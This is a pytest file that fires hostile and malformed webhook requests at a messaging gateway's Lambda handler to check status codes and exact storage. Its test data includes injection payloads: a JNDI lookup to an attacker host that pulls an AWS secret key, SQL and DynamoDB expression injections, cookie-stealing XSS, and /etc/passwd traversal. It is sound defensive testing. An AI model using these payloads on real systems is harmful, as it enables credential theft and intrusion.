"""Hostile input against post_message's real handler: every case gets the right answer, never a 5xx.

A refused request answers a 4xx whose JSON ``error`` names the problem and leaves nothing behind (no
item, no execution); an ignored one answers 200 and also leaves nothing; an accepted one stores
exactly the message the provider sent (its text round-trips byte for byte) and starts its wait.

Decisions taken here (see the cases): control characters, zero-width and RTL characters are a
user's text and are stored as they are; a lone surrogate cannot be encoded as UTF-8 and is refused
(422); a timestamp that is not a plausible epoch (negative, huge, not ASCII digits) is dropped, not
refused; ``fromMe`` that is not a boolean is refused (422) rather than guessed.

The AWS side is one moto world per module (table and Lambda functions), a fresh state machine and an
empty table per case: the cases run through the real handler, Scheduler and ConversationStore.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from itertools import count

import boto3
import pytest
from moto import mock_aws

from conftest import load_fixture
from gateway import aws, settings
from gateway.store import MAX_TEXT_BYTES
from helpers import api_event, response_json, zapi_text
from util import local_aws

TABLE = "hostile-conversations"
PHONE = "5544999999999"
MB = 1024 * 1024


@dataclass
class Case:
    id: str
    event: dict | list | None
    status: int
    error: str | None = None  # the JSON error code of a 4xx
    answer: dict | None = None  # the whole JSON answer of a 200
    # (sender, message id, text, timestamp) of every message stored, in order; [] for the refused
    stored: list[tuple] = field(default_factory=list)
    before: list[dict] = field(default_factory=list)  # events posted first, each answered 200

    def __post_init__(self):
        if self.status == 200 and self.answer is None:
            self.answer = {"status": "accepted", "stored": len(self.stored), "duplicates": 0}


def message(body_text, message_id="M1", phone=PHONE, **fields) -> dict:
    """A Z-API ReceivedCallback text payload with fields replaced (a None value removes the field)."""
    body = {**zapi_text(phone, body_text, message_id), **fields}
    return {k: v for k, v in body.items() if v is not None}


def raw(text: str | bytes, **kwargs) -> dict:
    return api_event(text, raw=True, **kwargs)


def without(event: dict, key: str) -> dict:
    return {k: v for k, v in event.items() if k != key}


def escaped(text_json: str, phone_json: str = f'"{PHONE}"', id_json: str = '"M1"') -> dict:
    """A body written by hand, for what json.dumps cannot produce (lone surrogate escapes)."""
    return raw('{"type":"ReceivedCallback","phone":%s,"messageId":%s,"text":{"message":%s}}'
               % (phone_json, id_json, text_json))


TS = 1632228638  # zapi_text's momment (ms) // 1000


def accepted(text, message_id="M1", phone=PHONE, ts=TS) -> list[tuple]:
    return [(phone, message_id, text, ts)]


def ignored(reason: str) -> dict:
    return {"status": "ignored", "reason": reason}


EXACT_LIMIT = "x" * MAX_TEXT_BYTES
EXACT_LIMIT_EMOJI = "😀" * (MAX_TEXT_BYTES // 4)  # 4 bytes each in UTF-8
FIVE_THOUSAND = ("Olá, preciso de ajuda com o meu pedido número 12345. " * 100)[:5000]
UNICODE = "olá 👋🏽 你好 — ñandú 🇧🇷 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 e\u0301"
RTL = "مرحبا، أريد أن أطلب \u202eevil.exe\u202c שלום"
ZERO_WIDTH = "pa\u200by\u200dme\u200cnt\ufeff\u2060 now"
CONTROL = "a\u0000b\u0007c\u001b[31md\u007f\u0085e\r\n\tf"
SQL = "'; DROP TABLE conversations; -- \" OR 1=1 /*"
JNDI = "${jndi:ldap://attacker.example/a}${env:AWS_SECRET_ACCESS_KEY}"
DDB_EXPRESSION = ":x #y SET seq = :zero REMOVE msgs, #y ADD ids_cur :id attribute_not_exists(pk)"
HTML = "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>&amp;"
TRAVERSAL = "../../../../etc/passwd%00"


CASES = [
    # --- the request: app, method, headers, query ---------------------------------------------
    Case("no-appId", api_event(message("hi"), app_id=None), 400, "missing_app_id"),
    Case("empty-appId", api_event(message("hi"), app_id=""), 400, "missing_app_id"),
    Case("blank-appId", api_event(message("hi"), app_id="   "), 400, "missing_app_id"),
    Case("query-null", {**api_event(message("hi")), "queryStringParameters": None}, 400, "missing_app_id"),
    Case("unknown-app", api_event(message("hi"), app_id="nobody"), 404, "unknown_app"),
    Case("appId-traversal", api_event(message("hi"), app_id="../bot1"), 404, "unknown_app"),
    Case("appId-10KB", api_event(message("hi"), app_id="a" * 10_240), 404, "unknown_app"),
    Case("appId-sql", api_event(message("hi"), app_id="bot1' OR '1'='1"), 404, "unknown_app"),
    Case("appId-expression", api_event(message("hi"), app_id=":app #pk"), 404, "unknown_app"),
    Case("method-GET", api_event(message("hi"), method="GET"), 405, "method_not_allowed"),
    Case("method-PUT", api_event(message("hi"), method="PUT"), 405, "method_not_allowed"),
    Case("method-DELETE", api_event(message("hi"), method="DELETE"), 405, "method_not_allowed"),
    Case("no-headers", without(api_event(message("no headers")), "headers"), 200, stored=accepted("no headers")),
    Case("not-an-event", [], 400, "invalid_event"),
    # --- the body: empty, not JSON, not an object, too big, too deep -----------------------------
    Case("body-missing", without(api_event(message("hi")), "body"), 400, "empty_body"),
    Case("body-null", {**api_event(message("hi")), "body": None}, 400, "empty_body"),
    Case("body-empty", raw(""), 400, "empty_body"),
    Case("body-whitespace", raw(" \r\n\t "), 400, "empty_body"),
    Case("not-json", raw("phone=5544&text=hi"), 400, "invalid_json"),
    Case("truncated-json", raw('{"phone": "5544", "text": {"message": "hi"'), 400, "invalid_json"),
    Case("json-array", raw(json.dumps([message("hi")])), 400, "not_an_object"),
    Case("json-string", raw('"hello"'), 400, "not_an_object"),
    Case("json-number", raw("42"), 400, "not_an_object"),
    Case("json-null", raw("null"), 400, "not_an_object"),
    Case("json-true", raw("true"), 400, "not_an_object"),
    Case("body-1MB", raw(json.dumps(message("x" * MB))), 413, "payload_too_large"),
    Case("body-1MB-base64", api_event(message("x" * MB), base64_body=True), 413, "payload_too_large"),
    Case("nested-100k-arrays", raw("[" * 100_000 + "]" * 100_000), 400, "invalid_json"),
    Case("nested-100k-in-text", escaped("[" * 100_000 + "]" * 100_000), 400, "invalid_json"),
    Case("nested-40k-objects", raw('{"a":' * 40_000 + "1" + "}" * 40_000), 400, "invalid_json"),
    Case("int-5000-digits", raw(json.dumps(message("hi"))[:-1] + ',"momment":' + "7" * 5000 + "}"), 400,
         "invalid_json"),
    # --- a key twice in one object: which value counts is a guess, so neither is taken -------------
    Case("duplicate-key-text", raw(json.dumps(message("signed text"))[:-1] + ',"text":{"message":"other text"}}'),
         400, "duplicate_key"),
    Case("duplicate-key-phone", raw('{"phone":"5544999999999","phone":"5511888888888",'
                                    + json.dumps(message("hi"))[1:]), 400, "duplicate_key"),
    Case("duplicate-key-nested", escaped('"hi", "message": "bye"'), 400, "duplicate_key"),
    Case("duplicate-key-same-value", raw(json.dumps(message("hi"))[:-1] + ',"type":"ReceivedCallback"}'), 400,
         "duplicate_key"),
    Case("duplicate-key-base64", raw(json.dumps(message("a"))[:-1] + ',"messageId":"M2"}', base64_body=True), 400,
         "duplicate_key"),
    # --- text-less types are kept as "[type] detail", never refused --------------------------------
    Case("zapi-unknown-type", api_event({k: v for k, v in message("x").items() if k != "text"}
                                        | {"futureThing": {"title": "New kind"}}), 200,
         stored=accepted("[futureThing] New kind")),
    Case("zapi-edit", api_event(message("changed", isEdit=True)), 200, answer=ignored("edited message")),
    Case("base64-invalid", {**api_event(message("hi")), "isBase64Encoded": True, "body": "!!not*base64"}, 400,
         "invalid_body"),
    Case("base64-invalid-utf8", raw(b'{"phone":"\xff\xfe\xc3","text":{"message":"\x80"}}', base64_body=True), 400,
         "invalid_json"),
    Case("raw-lone-surrogate", raw(json.dumps(message("x"), ensure_ascii=False).replace('"x"', '"\ud800"')), 422,
         "invalid_text"),  # json.loads decodes with surrogatepass: the surrogate reaches the text check
    Case("escaped-lone-surrogate-text", escaped('"a\\ud800b"'), 422, "invalid_text"),
    Case("escaped-lone-surrogate-phone", escaped('"hi"', phone_json='"5544\\udc00"'), 422, "invalid_sender"),
    Case("escaped-lone-surrogate-id", escaped('"hi"', id_json='"M\\udfff"'), 422, "invalid_message_id"),
    # --- wrong types for the Z-API fields ----------------------------------------------------------
    Case("phone-number", api_event(message("hi", phone=5544999999999)), 422, "missing_sender"),
    Case("phone-list", api_event(message("hi", phone=[PHONE])), 422, "missing_sender"),
    Case("phone-object", api_event(message("hi", phone={"number": PHONE})), 422, "missing_sender"),
    Case("phone-empty", api_event(message("hi", phone="")), 422, "missing_sender"),
    Case("phone-missing", api_event(message("hi", phone=None)), 422, "missing_sender"),
    Case("phone-10KB", api_event(message("hi", phone="5" * 10_240)), 422, "invalid_sender"),
    Case("text-a-string", api_event(message("hi", text="hi")), 422, "missing_text"),
    Case("text-null", api_event({**message("hi"), "text": None}), 422, "missing_text"),
    Case("text-message-number", api_event(message("hi", text={"message": 42})), 422, "missing_text"),
    Case("text-message-list", api_event(message("hi", text={"message": ["hi"]})), 422, "missing_text"),
    Case("text-message-blank", api_event(message(" \n\t ")), 422, "missing_text"),
    Case("messageId-number", api_event(message("hi", messageId=12345)), 422, "missing_message_id"),
    Case("messageId-empty", api_event(message("hi", messageId="")), 422, "missing_message_id"),
    Case("messageId-2KB", api_event(message("hi", "M" * 2048)), 422, "invalid_message_id"),
    Case("fromMe-string-true", api_event(message("hi", fromMe="true")), 422, "invalid_from_me"),
    Case("fromMe-number", api_event(message("hi", fromMe=1)), 422, "invalid_from_me"),
    Case("momment-digit-string", api_event(message("ts", momment="1632228638000")), 200, stored=accepted("ts")),
    Case("momment-word", api_event(message("ts", momment="yesterday")), 200, stored=accepted("ts", ts=None)),
    Case("momment-negative", api_event(message("ts", momment=-1632228638000)), 200, stored=accepted("ts", ts=None)),
    Case("momment-huge", api_event(message("ts", momment=10**45)), 200, stored=accepted("ts", ts=None)),
    Case("momment-huge-string", api_event(message("ts", momment="9" * 200)), 200, stored=accepted("ts", ts=None)),
    Case("momment-superscript", api_event(message("ts", momment="²")), 200, stored=accepted("ts", ts=None)),
    Case("momment-float", api_event(message("ts", momment=1.5e300)), 200, stored=accepted("ts", ts=None)),
    # --- texts that are stored exactly as they came ------------------------------------------------
    Case("unicode-emoji", api_event(message(UNICODE)), 200, stored=accepted(UNICODE)),
    Case("unicode-emoji-base64", api_event(message(UNICODE), base64_body=True), 200, stored=accepted(UNICODE)),
    Case("rtl", api_event(message(RTL)), 200, stored=accepted(RTL)),
    Case("zero-width", api_event(message(ZERO_WIDTH)), 200, stored=accepted(ZERO_WIDTH)),
    Case("zero-width-only", api_event(message("\u200b")), 200, stored=accepted("\u200b")),
    Case("control-chars", api_event(message(CONTROL)), 200, stored=accepted(CONTROL)),
    Case("sql", api_event(message(SQL, messageId="'; DELETE --")), 200, stored=accepted(SQL, "'; DELETE --")),
    Case("jndi", api_event(message(JNDI)), 200, stored=accepted(JNDI)),
    Case("ddb-expression", api_event(message(DDB_EXPRESSION, ":id", phone="#pk :x")), 200,
         stored=accepted(DDB_EXPRESSION, ":id", "#pk :x")),
    Case("html-script", api_event(message(HTML)), 200, stored=accepted(HTML)),
    Case("phone-traversal", api_event(message("hi", phone=TRAVERSAL)), 200, stored=accepted("hi", phone=TRAVERSAL)),
    Case("5000-chars", api_event(message(FIVE_THOUSAND)), 200, stored=accepted(FIVE_THOUSAND)),
    Case("text-at-limit", api_event(message(EXACT_LIMIT)), 200, stored=accepted(EXACT_LIMIT)),
    Case("emoji-text-at-limit", api_event(message(EXACT_LIMIT_EMOJI)), 200, stored=accepted(EXACT_LIMIT_EMOJI)),
    Case("text-one-byte-over", api_event(message(EXACT_LIMIT + "x")), 413, "text_too_long"),
    Case("emoji-text-one-char-over", api_event(message(EXACT_LIMIT_EMOJI + "é")), 413, "text_too_long"),
    Case("messageId-1KB", api_event(message("hi", "M" * 1024)), 200, stored=accepted("hi", "M" * 1024)),
    # --- callbacks and echoes: 200 and ignored ---------------------------------------------------
    Case("status-read", api_event(load_fixture("zapi", "status_read.json")), 200,
         answer=ignored("zapi event MessageStatusCallback")),
    Case("delivery-callback", api_event(load_fixture("zapi", "delivery_callback.json")), 200,
         answer=ignored("zapi event DeliveryCallback")),
    Case("type-a-list", api_event(message("hi", type=["ReceivedCallback"])), 200,
         answer=ignored("zapi event ['ReceivedCallback']")),
    Case("own-echo", api_event(message("echo", fromMe=True)), 200, answer=ignored("own message echo")),
    Case("own-echo-fixture", api_event(load_fixture("zapi", "from_me_broadcast_text.json")), 200,
         answer=ignored("own message echo")),
    Case("group-notification", api_event(load_fixture("zapi", "group_notification_invite_link_admins.json")), 200,
         answer=ignored("group notification")),
    Case("reaction", api_event(message("hi", reaction={"value": "❤️", "referencedMessage": {}})), 200,
         answer=ignored("reaction")),
    Case("waiting-message", api_event(message("hi", waitingMessage=True)), 200,
         answer=ignored("message still waiting to be decrypted")),
    # --- duplicates --------------------------------------------------------------------------------
    Case("duplicate-id", api_event(message("hello", "DUP")), 200,
         answer={"status": "accepted", "stored": 0, "duplicates": 1},
         stored=accepted("hello", "DUP"), before=[api_event(message("hello", "DUP"))]),
    Case("duplicate-id-other-text", api_event(message("edited", "DUP")), 200,
         answer={"status": "accepted", "stored": 0, "duplicates": 1},
         stored=accepted("original", "DUP"), before=[api_event(message("original", "DUP"))]),
    Case("same-id-other-sender", api_event(message("two", "DUP", phone="5511888888888")), 200,
         answer={"status": "accepted", "stored": 1, "duplicates": 0},
         stored=accepted("one", "DUP") + accepted("two", "DUP", phone="5511888888888"),
         before=[api_event(message("one", "DUP"))]),
]


@pytest.fixture(scope="module")
def moto_world():
    with pytest.MonkeyPatch.context() as patch, mock_aws():
        aws.reset()
        local_aws.create_table(TABLE)
        process_arn = local_aws.create_function("hostile-process-message")
        patch.setenv("TABLE_NAME", TABLE)
        patch.setenv("DEBOUNCE_SECONDS", "1")
        patch.setenv("PROCESSING_LAMBDAS_MAP", json.dumps({"bot1": "bot1-chat-lambda"}))
        for name in ("PROVIDERS_MAP", "SECRETS_PARAMETERS_MAP", "APP_SECRETS_MAP", "DEBOUNCE_POLICIES"):
            patch.delenv(name, raising=False)
        yield process_arn
        aws.reset()


class Gateway:
    def __init__(self, state_machine_arn: str):
        import post_message.handler as handler

        self.handler = handler
        self.state_machine_arn = state_machine_arn

    def post(self, event) -> dict:
        return self.handler.lambda_handler(event, local_aws.LambdaContext("post_message"))

    def items(self) -> list[dict]:
        from gateway.store import from_ddb

        client = boto3.client("dynamodb", region_name="us-east-1")
        return [from_ddb(i) for i in client.scan(TableName=TABLE)["Items"]]

    def stored(self) -> list[tuple]:
        """(sender, message id, text, timestamp) of every stored message: by sender, then in sequence."""
        from helpers import text_reader

        items = self.items()
        text_of = text_reader(items)
        entries = []
        for item in sorted((i for i in items if i["sk"] == "META"), key=lambda i: i["pk"]):
            entries += [(item["sender"], entry["id"], text_of(entry), int(entry["ts"]) if "ts" in entry else None)
                        for entry in item.get("msgs", [])]
        return entries

    def executions(self) -> list[dict]:
        sfn = boto3.client("stepfunctions", region_name="us-east-1")
        return sfn.list_executions(stateMachineArn=self.state_machine_arn)["executions"]


_machines = count(1)


@pytest.fixture
def gateway(moto_world, monkeypatch):
    """An empty table and a state machine of its own: what one case leaves behind is its own."""
    client = boto3.client("dynamodb", region_name="us-east-1")
    for item in client.scan(TableName=TABLE, ProjectionExpression="pk, sk")["Items"]:
        client.delete_item(TableName=TABLE, Key=item)
    arn = local_aws.create_state_machine(f"hostile-{next(_machines)}", moto_world)
    monkeypatch.setenv("STATE_MACHINE_ARN", arn)
    settings.reset()
    gateway = Gateway(arn)
    gateway.handler.service.cache_clear()
    yield gateway
    gateway.handler.service.cache_clear()


def test_there_are_at_least_forty_cases_with_distinct_ids():
    assert len(CASES) >= 40
    assert len({case.id for case in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_hostile_input_gets_the_right_answer_and_stores_exactly_what_it_should(gateway, case):
    for event in case.before:
        assert gateway.post(event)["statusCode"] == 200
    response = gateway.post(case.event)

    assert response["statusCode"] == case.status, response["body"][:300]
    assert response["headers"]["Content-Type"] == "application/json"
    answer = response_json(response)
    if case.error is not None:
        assert 400 <= case.status < 500
        assert answer["error"] == case.error
        assert isinstance(answer["message"], str) and 0 < len(answer["message"]) <= 200
        assert PHONE not in answer["message"]
    else:
        assert answer == case.answer
    assert gateway.stored() == sorted(case.stored, key=lambda message: message[0])
    if not case.stored:
        assert gateway.items() == []
    # One wait per stored message (each restarts its conversation's); none for a refusal.
    assert len(gateway.executions()) == len(case.stored)


@pytest.mark.parametrize("text", [CONTROL, RTL, ZERO_WIDTH, UNICODE, DDB_EXPRESSION, EXACT_LIMIT_EMOJI],
                         ids=["control", "rtl", "zero-width", "unicode", "ddb-expression", "emoji-at-limit"])
def test_a_kept_text_comes_back_unchanged_from_the_claimed_batch(gateway, text):
    """What the app's Lambda is given: the claim moves the text into a CHUNK item; it reads back the same."""
    from gateway.store import ConversationStore

    assert gateway.post(api_event(message(text)))["statusCode"] == 200
    store = ConversationStore(TABLE, clock=lambda: 4_000_000_000.0)  # long past the quiet period
    outcome = store.claim("bot1", PHONE, 1)
    assert outcome.status == "claimed"
    messages = store.load_messages("bot1", PHONE, outcome.batch.first_seq, outcome.batch.last_seq)
    assert [m.text for m in messages] == [text]
    assert messages[0].text.encode() == text.encode()
    assert outcome.batch.payload()["message"] == text or outcome.batch.messages == []
